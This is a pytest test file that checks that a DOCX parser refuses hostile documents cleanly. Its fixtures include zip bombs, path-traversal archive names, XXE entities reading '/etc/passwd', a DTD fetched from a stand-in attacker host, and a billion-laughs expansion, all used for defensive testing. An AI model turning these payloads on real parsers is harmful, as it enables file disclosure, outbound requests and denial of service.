"""Hostile DOCX inputs are refused cleanly, quickly, with the right reason."""

from __future__ import annotations

import contextlib
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from litigate import _ooxml
from litigate.errors import DocumentError
from litigate.parse import docx as docx_module
from litigate.parse.docx import read_docx_footnotes, read_docx_paragraphs
from litigate.parse.observations import read_observations
from tests.docx_factory import CONTENT_TYPES, document_xml, raw_docx

# A refusal must come before the bomb goes off: whatever the archive claims, a reader never
# inflates more than the expanded-size limit plus one read chunk. Counting the bytes that come
# out of the archive states that bound without timing anything (timings are the benchmarks').
INFLATION_BOUND = _ooxml.MAX_EXPANDED_BYTES + 64 * 1024


@contextlib.contextmanager
def counting_inflation() -> Iterator[list[int]]:
    """Count the bytes every archive member read yields while the block runs."""
    total = [0]
    original = zipfile.ZipExtFile.read

    def read(self: zipfile.ZipExtFile, n: int | None = -1) -> bytes:
        data = original(self, n)
        total[0] += len(data)
        return data

    zipfile.ZipExtFile.read = read  # type: ignore[method-assign]
    try:
        yield total
    finally:
        zipfile.ZipExtFile.read = original  # type: ignore[method-assign]


def refused(source, reason: str, reader=read_docx_paragraphs) -> DocumentError:
    with counting_inflation() as inflated, pytest.raises(DocumentError) as caught:
        reader(source)
    assert caught.value.reason == reason, str(caught.value)
    assert inflated[0] <= INFLATION_BOUND, f"inflated {inflated[0]} bytes before refusing"
    assert isinstance(caught.value, ValueError)
    return caught.value


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    target = tmp_path / name
    target.write_bytes(data)
    return target


# --------------------------------------------------------------------------- not a DOCX


def test_pdf_renamed_docx(tmp_path):
    path = write(
        tmp_path, "observations.docx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
    )
    error = refused(path, "not_a_docx")
    assert error.path == str(path)
    assert "not a DOCX" in str(error)


def test_text_file_renamed_docx(tmp_path):
    refused(write(tmp_path, "notes.docx", "The Government submit…".encode()), "not_a_docx")


def test_zip_without_document_part(tmp_path):
    data = raw_docx()
    path = tmp_path / "other.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("xl/workbook.xml", b"<workbook/>")
    assert data  # the factory itself works
    refused(path, "not_a_docx")


def test_empty_file(tmp_path):
    refused(write(tmp_path, "empty.docx", b""), "not_a_docx")


def test_missing_file_is_refused(tmp_path):
    refused(tmp_path / "absent.docx", "unreadable")


# --------------------------------------------------------------------------- encrypted / macros


def test_ole_compound_file_is_encrypted(tmp_path):
    header = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)
    error = refused(write(tmp_path, "protected.docx", header), "encrypted")
    assert "password" in str(error)


def test_ole_bytes_in_memory(tmp_path):
    refused(bytes.fromhex("D0CF11E0A1B11AE1") + bytes(100), "encrypted", read_observations)


def test_vba_project_is_macro_enabled(tmp_path):
    data = raw_docx({"word/vbaProject.bin": b"\x00VBA\x00" * 20})
    refused(write(tmp_path, "macros.docx", data), "macro_enabled")


def test_macro_content_type_is_macro_enabled(tmp_path):
    types = CONTENT_TYPES.replace(b"document.main+xml", b"document.macroEnabled.main+xml").replace(
        b"wordprocessingml.document", b"ms-word"
    )
    data = raw_docx({"[Content_Types].xml": types})
    refused(write(tmp_path, "macros.docm.docx", data), "macro_enabled")


# --------------------------------------------------------------------------- size and bombs


def test_oversized_file_is_refused_before_reading(tmp_path):
    path = tmp_path / "huge.docx"
    with path.open("wb") as handle:
        handle.write(b"PK\x03\x04")
        handle.truncate(docx_module.MAX_COMPRESSED_BYTES + 1)  # sparse: nothing is written
    refused(path, "too_large")


def test_zip_bomb_is_refused(tmp_path):
    path = tmp_path / "bomb.docx"
    chunk = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            for _ in range(300):  # 300 MiB of zeros, about 1.3 MB compressed
                member.write(chunk)
    assert path.stat().st_size < 5 * 1024 * 1024
    error = refused(path, "zip_bomb")
    assert "word/document.xml" in str(error)


def test_streaming_read_enforces_the_bound_whatever_the_headers_say(monkeypatch):
    # The header checks pass (the entry is small enough then); the bound is lowered afterwards,
    # as if the headers had understated the size: the chunked read itself must stop.
    body = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 100_000  # about 3.5 MB
    xml = document_xml().replace(b"<w:body>", b"<w:body>" + body)
    monkeypatch.setattr(_ooxml, "RATIO_MIN_BYTES", 10**12)  # header ratio check off
    package = docx_module._Package(raw_docx(document=xml))
    monkeypatch.setattr(_ooxml, "RATIO_MIN_BYTES", 1024 * 1024)
    monkeypatch.setattr(_ooxml, "MAX_EXPANDED_BYTES", 1024 * 1024)
    with counting_inflation() as inflated, pytest.raises(DocumentError) as caught:
        package.read("word/document.xml")
    assert caught.value.reason == "zip_bomb"
    assert package.read_total <= 1024 * 1024 + 64 * 1024  # stopped within one chunk
    assert inflated[0] <= 1024 * 1024 + 64 * 1024
    package.close()


def test_too_many_entries(tmp_path):
    path = tmp_path / "many.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", document_xml("x"))
        for number in range(docx_module.MAX_ENTRIES):
            archive.writestr(f"word/media/e{number}.bin", b"")
    refused(path, "zip_bomb")


# --------------------------------------------------------------------------- archive names


@pytest.mark.parametrize(
    "name", ["../evil.xml", "word/../../evil.xml", "/etc/evil.xml", "C:/evil.xml", "..\\evil.xml"]
)
def test_unsafe_entry_names(tmp_path, name):
    data = raw_docx({name: b"<evil/>"})
    error = refused(write(tmp_path, "traversal.docx", data), "bad_archive")
    assert repr(name) in str(error)


# --------------------------------------------------------------------------- XML


def test_malformed_xml(tmp_path):
    data = raw_docx(document=b"<w:document><w:body><w:p>")
    refused(write(tmp_path, "broken.docx", data), "bad_xml")


def test_external_entity_is_refused(tmp_path):
    xml = (
        b'<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
    )
    error = refused(write(tmp_path, "xxe.docx", raw_docx(document=xml)), "external_entity")
    assert "root:" not in str(error)


def test_network_entity_is_refused(tmp_path):
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    )
    refused(raw_docx(document=xml), "external_entity")


def test_billion_laughs_is_refused(tmp_path):
    entities = ['<!ENTITY lol "lol">']
    entities += [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    entities[1] = '<!ENTITY lol1 "' + "&lol;" * 10 + '">'
    xml = (
        '<?xml version="1.0"?><!DOCTYPE w:document [' + "".join(entities) + "]>"
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    refused(write(tmp_path, "laughs.docx", raw_docx(document=xml)), "external_entity")


def test_doctype_in_utf16_is_refused(tmp_path):
    xml = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    ).encode("utf-16")
    refused(raw_docx(document=xml), "external_entity")


def test_doctype_in_footnotes_is_refused(tmp_path):
    notes = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    )
    data = raw_docx({"word/footnotes.xml": notes})
    refused(data, "external_entity", read_docx_footnotes)
    refused(data, "external_entity", read_observations)


def test_a_clean_minimal_package_is_read():
    paragraphs = read_docx_paragraphs(raw_docx(document=document_xml("One.", "Two.")))
    assert [p.text for p in paragraphs] == ["One.", "Two."]
    assert read_docx_footnotes(raw_docx()) == {}


def test_too_many_entries_refused_before_zipfile_parses_them(monkeypatch):
    import zipfile as zf

    buffer = io.BytesIO()
    with zf.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", b"<x/>")
        for i in range(70_000):  # beyond 65,535: the count moves to the ZIP64 record
            archive.writestr(f"m/{i}", b"")

    def never(*_args, **_kwargs):
        msg = "zipfile must not be asked to parse this archive"
        raise AssertionError(msg)

    monkeypatch.setattr("litigate._ooxml.zipfile.ZipFile", never)
    with pytest.raises(DocumentError) as caught:
        read_observations(buffer.getvalue())
    assert caught.value.reason == "zip_bomb"
